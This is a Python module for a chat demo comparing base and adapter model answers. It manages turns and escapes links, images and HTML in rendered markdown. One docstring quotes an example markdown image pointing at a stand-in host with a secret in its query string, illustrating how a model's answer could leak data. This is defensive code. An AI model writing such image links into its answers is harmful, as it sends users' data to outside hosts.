"""The conversation behind the page: turns and answers, kept on the server, and how they are shown."""

from __future__ import annotations

import re
from collections.abc import Sequence
from dataclasses import dataclass, field
from typing import Any

from . import pictures, texts

COLUMNS = ("base", "adapter")
MAX_TURNS = 20
MAX_CHARACTERS = 8000

# Code is shown as it is; everywhere else what could become a link, an image or HTML stays text.
_CODE = re.compile(r"(```.*?(?:```|\Z)|~~~.*?(?:~~~|\Z)|(?<!`)(`+)(?!`)[^\n]*?(?<!`)\2(?!`))", re.DOTALL)
_AS_TEXT = (
    ("<", "&lt;"),
    ("[", "&#91;"),
    ("://", "&#58;//"),
    ("@", "&#64;"),
)
_WWW = re.compile(r"\bwww\.", re.IGNORECASE)


def as_text(markdown: str) -> str:
    """Markdown in which links, images and HTML are shown as the characters they are written with.

    A model may answer `![](https://stranger/?q=secret)`; a page that loaded it would send the secret away.
    """
    pieces = []
    position = 0
    for code in _CODE.finditer(markdown):
        pieces.append(_neutral(markdown[position : code.start()]))
        pieces.append(code.group())
        position = code.end()
    pieces.append(_neutral(markdown[position:]))
    return "".join(pieces)


def _neutral(text: str) -> str:
    for found, instead in _AS_TEXT:
        text = text.replace(found, instead)
    return _WWW.sub(lambda match: match.group()[:-1] + "&#46;", text)


@dataclass
class Answer:
    """One column's answer. `note` is a key of texts.py ("" when there is nothing to remark)."""

    text: str = ""
    note: str = "note_pending"
    error_id: str = ""
    detail: str = ""


@dataclass
class Turn:
    """A question and the answers it got, by column. `files` are where its images came from; they may be gone."""

    question: str
    answers: dict[str, Answer] = field(default_factory=dict)
    images: list[Any] = field(default_factory=list)
    files: list[str] = field(default_factory=list)


@dataclass(frozen=True)
class Job:
    """What the next generation has to do, as chosen when the question was sent."""

    columns: tuple[str, ...]
    engine: int
    temperature: float
    max_new_tokens: int
    system_prompt: str | None


@dataclass
class Conversation:
    """All turns of one visitor; a column sees only the turns that it answered itself."""

    turns: list[Turn] = field(default_factory=list)
    job: Job | None = None
    trimmed: bool = False
    language: str = ""  # once the visitor has chosen one

    @property
    def num_images(self) -> int:
        """Images that are held."""
        return sum(len(turn.images) for turn in self.turns)

    def ask(self, question: str, job: Job, images: Sequence[Any] = (), files: Sequence[str] = ()) -> None:
        """Add a turn (dropping the oldest beyond MAX_TURNS) and leave the job for the generation."""
        self.turns.append(Turn(question, images=list(images), files=list(files)))
        if len(self.turns) > MAX_TURNS:
            del self.turns[: len(self.turns) - MAX_TURNS]
            self.trimmed = True
        self.again(job)

    def again(self, job: Job) -> None:
        """Ask the last question once more in the job's columns."""
        for column in job.columns:
            note = "note_after_base" if column == "adapter" and len(job.columns) > 1 else "note_pending"
            self.turns[-1].answers[column] = Answer(note=note)
        self.job = job

    def take_job(self) -> Job | None:
        job, self.job = self.job, None
        return job

    def undo(self) -> Turn:
        """Remove the last turn and return it."""
        self.job = None
        return self.turns.pop()

    def clear(self) -> None:
        self.turns.clear()
        self.job = None
        self.trimmed = False

    def stop_pending(self) -> None:
        """Answers that never began are marked as stopped."""
        self.job = None
        for answer in self.turns[-1].answers.values() if self.turns else ():
            if answer.note in ("note_pending", "note_after_base"):
                answer.note = "note_stopped"

    def messages(self, column: str, system_prompt: str | None) -> list[dict[str, Any]]:
        """What the model sees for the last question of `column`: its own earlier turns and nothing else."""
        messages: list[dict[str, Any]] = [{"role": "system", "content": system_prompt}] if system_prompt else []
        for turn in self.turns[:-1]:
            answer = turn.answers.get(column)
            if answer and answer.text:
                messages.append(pictures.message(turn.question, turn.images))
                messages.append({"role": "assistant", "content": answer.text})
        messages.append(pictures.message(self.turns[-1].question, self.turns[-1].images))
        return messages

    def shown(self, column: str, language: str) -> list[dict[str, str]]:
        """The messages of one column for the page, in its language."""
        messages = []
        for turn in self.turns:
            answer = turn.answers.get(column)
            if answer is None:
                continue
            parts = [as_text(answer.text)] if answer.text else []
            if answer.note:
                detail = as_text(texts.reason(language, answer.detail))
                parts.append(f"*{texts.say(language, answer.note, id=answer.error_id, detail=detail)}*")
            labels = [texts.say(language, "image", num=k) for k in range(1, len(turn.images) + 1)]
            asked = [pictures.drawn(turn.images, labels)] if labels else []
            messages.append({"role": "user", "content": "\n\n".join([*asked, as_text(turn.question)])})
            messages.append({"role": "assistant", "content": "\n\n".join(parts)})
        return messages
